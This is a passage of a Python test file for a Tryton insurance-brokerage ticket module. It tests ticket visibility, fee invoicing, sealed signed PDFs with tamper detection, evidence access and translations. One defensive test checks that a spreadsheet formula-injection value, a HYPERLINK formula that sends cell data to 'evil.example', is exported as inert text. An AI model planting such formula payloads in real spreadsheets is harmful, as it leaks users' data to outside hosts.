                    'brokerage': world['rbs'].id, 'state': 'in_charge'})
            Ticket.forward([ticket])
            self.assertEqual(self.readable_parties(broker, everyone), {
                    broker.party, world['rbs'], world['company'].party,
                    client.party, world['studio']})
            self.assertNotIn(client.party, self.readable_parties(
                    world['other_broker'], everyone))

    def sign_ticket(self, world):
        "Return a ticket signed by the client, with its evidence."
        with set_company(world['company']):
            ticket = self.open_ticket(world)
            self.start_signing(world, ticket)
            code = self.known_code(
                ticket.request_signature_code(world['client']))
            evidence = ticket.sign(
                world['client'], code, '192.0.2.1', 'Chromium')
        return ticket, evidence

    @with_transaction()
    def test_signed_policy_invoices_the_fee(self):
        "A signed policy makes the draft invoice of the configured fee"
        pool = Pool()
        Configuration = pool.get('insurance.configuration')
        world = self.setup_world()
        company = world['company']
        # without a fee configured, no invoice
        ticket, _ = self.sign_ticket(world)
        self.assertIsNone(pool.get('insurance.ticket')(ticket.id).fee_invoice)
        with set_company(company):
            accounting.ensure_chart(company)
            configuration = Configuration(1)
            configuration.brokerage_fee = accounting.service(
                company, "Diritti di brokeraggio", Decimal('50.00'))
            configuration.save()
        with set_company(company):
            ticket = self.open_ticket(world)
            self.start_signing(world, ticket)
            code = self.known_code(
                ticket.request_signature_code(world['client']))
        # signed in the portal, where no company is in the context
        ticket = pool.get('insurance.ticket')(ticket.id)
        ticket.sign(world['client'], code, '192.0.2.1', 'Chromium')
        invoice = pool.get('insurance.ticket')(ticket.id).fee_invoice
        self.assertEqual(
            (invoice.type, invoice.state, invoice.party, invoice.company),
            ('out', 'draft', world['studio'], company))
        line, = invoice.lines
        self.assertEqual(line.product, configuration.brokerage_fee)
        self.assertTrue(line.account.type.revenue)
        self.assertEqual(invoice.total_amount, Decimal('50.00'))
        self.assertIn(ticket.number, line.description)
        # the accountants see it among the customer invoices
        accountant = self.create_accountant(world)
        ModelData = pool.get('ir.model.data')
        accountant.groups += (pool.get('res.group')(
                ModelData.get_id('account', 'group_account')),)
        accountant.save()
        with Transaction().set_user(accountant.id), check_access():
            self.assertIn(invoice, pool.get('account.invoice').search(
                    [('type', '=', 'out')]))

    @with_transaction()
    def test_signed_copy_sealed(self):
        "The signed copy is one sealed PDF carrying its evidence"
        pool = Pool()
        Ticket = pool.get('insurance.ticket')
        Evidence = pool.get('insurance.ticket.evidence')
        world = self.setup_world()
        party = world['client'].party
        party.identifiers = [{
                'type': 'it_codicefiscale', 'code': 'RSSMRA80A01H501U'}]
        party.save()
        ticket, evidence = self.sign_ticket(world)
        ticket = Ticket(ticket.id)
        copy, = [a for a in ticket.attachments if a.category == 'signed']
        data = bytes(copy.data)
        # the original's hash stays the one the client was shown
        self.assertEqual(
            hashlib.sha256(ticket.policy_data()).hexdigest(),
            ticket.policy_hash)
        self.assertEqual(evidence.document_hash, ticket.policy_hash)
        pages = PdfReader(io.BytesIO(data)).pages
        policy = PdfReader(io.BytesIO(ticket.policy_data())).pages
        self.assertEqual(len(pages), len(policy) + 1)
        self.assertEqual(
            pages[0].extract_text(), policy[0].extract_text())
        text = pages[-1].extract_text().replace("\n", "")
        self.assertIn(evidence.chain_hash, text)
        self.assertIn('RSSMRA80A01H501U', text)
        self.assertIn(document.local_time(evidence.signed_at), text)
        self.assertIn('Europe/Rome', text)
        embedded = document.embedded_evidence(data)
        self.assertEqual(embedded['chain_hash'], evidence.chain_hash)
        self.assertEqual(embedded['document_hash'], ticket.policy_hash)
        self.assertEqual(embedded['signer_tax_code'], 'RSSMRA80A01H501U')
        self.assertEqual(embedded['ticket_number'], ticket.number)

        valid, report = pdfsig(data)
        self.assertTrue(valid, report)
        valid, report = pyhanko_validate(data)
        self.assertTrue(valid, report)
        self.assertTrue(
            Evidence.verify_signed_copy(ticket, evidence).timestamped)
        Ticket.verify_signature([ticket])
        with tempfile.TemporaryDirectory() as folder:
            path = os.path.join(folder, 'signed.pdf')
            for content, passes in [(data, True), (flip_byte(data), False)]:
                with open(path, 'wb') as file:
                    file.write(content)
                with redirect_stdout(io.StringIO()):
                    self.assertEqual(verify.check_file(path), passes)
        self.assertFalse(pdfsig(flip_byte(data))[0])
        self.assertFalse(pyhanko_validate(flip_byte(data))[0])

    @with_transaction()
    def test_legacy_evidence_still_verifies(self):
        "Evidence sealed in the first serialisation keeps verifying"
        pool = Pool()
        Ticket = pool.get('insurance.ticket')
        Evidence = pool.get('insurance.ticket.evidence')
        world = self.setup_world()
        ticket, evidence = self.sign_ticket(world)
        table = Evidence.__table__()
        cursor = Transaction().connection.cursor()
        # as the first signatures were stored: their own JSON, '' first
        cursor.execute(*table.update(
                [table.chain_version, table.previous_hash], [1, ''],
                where=table.id == evidence.id))
        legacy = Evidence(evidence.id)
        cursor.execute(*table.update(
                [table.chain_hash], [legacy.legacy_digest()],
                where=table.id == evidence.id))
        Ticket.verify_signature([Ticket(ticket.id)])
        cursor.execute(*table.update(
                [table.signer_email], ['someone@else.example'],
                where=table.id == evidence.id))
        with self.assertRaises(BrokenEvidenceChain):
            Ticket.verify_signature([Ticket(ticket.id)])

    @with_transaction()
    def test_evidence_follows_the_ticket_rule(self):
        "A brokerage reads a ticket's evidence only once it was forwarded"
        pool = Pool()
        Ticket = pool.get('insurance.ticket')
        Evidence = pool.get('insurance.ticket.evidence')
        world = self.setup_world()
        ticket, evidence = self.sign_ticket(world)
        table = Ticket.__table__()
        cursor = Transaction().connection.cursor()
        cursor.execute(*table.update([table.at_broker_at],
                [dt.datetime.now()], where=table.id == ticket.id))

        def visible(user):
            with ExitStack() as stack:
                for manager in self.as_portal(user):
                    stack.enter_context(manager)
                return Evidence.search([('id', '=', evidence.id)])

        self.assertEqual(len(visible(world['broker'])), 1)
        self.assertEqual(len(visible(world['client'])), 1)
        self.assertEqual(visible(world['other_broker']), [])
        # the same evidence, as if the ticket had not been forwarded yet
        cursor.execute(*table.update(
                [table.at_broker_at], [None], where=table.id == ticket.id))
        self.assertEqual(visible(world['broker']), [])
        self.assertEqual(len(visible(world['client'])), 1)
    @with_transaction()
    def test_reference_lists(self):
        "Lines of business and request types come with the module, translated"
        pool = Pool()
        Line = pool.get('insurance.ticket.line')
        RequestType = pool.get('insurance.ticket.request_type')
        load_translations('insurance_ticket')
        self.assertEqual({l.code for l in Line.search([])}, {
                'building', 'home', 'administrator_liability', 'legal',
                'accident', 'd_and_o', 'third_party'})
        quote, = RequestType.search([('is_quote_request', '=', True)])
        names = {}
        for language in ['en', 'it', 'fa']:
            with Transaction().set_context(language=language):
                names[language] = (
                    Line.search([('code', '=', 'building')])[0].name,
                    RequestType(quote.id).name)
        self.assertEqual(names['it'], ("Globale Fabbricati",
                "Richiesta Preventivo"))
        self.assertEqual(len({names[l] for l in names}), 3)

    @with_transaction()
    def test_questionnaire_values_are_text(self):
        "What a person typed reaches the broker's spreadsheet as text"
        from openpyxl import load_workbook
        from trytond.modules.insurance_ticket import document
        questionnaire_install.install()
        world = self.setup_world()
        with set_company(world['company']):
            ticket = self.open_ticket(world)
            collection = ticket.ask_questionnaire()
        formula = '=HYPERLINK("http://evil.example/?d="&B4,"Apri")'
        collection.save_answers({
                'condominio_indirizzo': formula,
                'compagnia_attuale': '+39 333 1234567',
                'numero_polizza': 'http://evil.example'})
        sheet = document.questionnaire(ticket, collection)
        book = load_workbook(io.BytesIO(sheet['data']))
        cells = [c for row in book.active.iter_rows() for c in row
            if c.value is not None]
        typed = {c.value: c for c in cells}
        for value in [formula, '+39 333 1234567', 'http://evil.example']:
            self.assertEqual(typed[value].data_type, 's', value)
            self.assertIsNone(typed[value].hyperlink, value)
        self.assertFalse([c for c in cells if c.data_type == 'f'])

del PlatformModuleTestCase
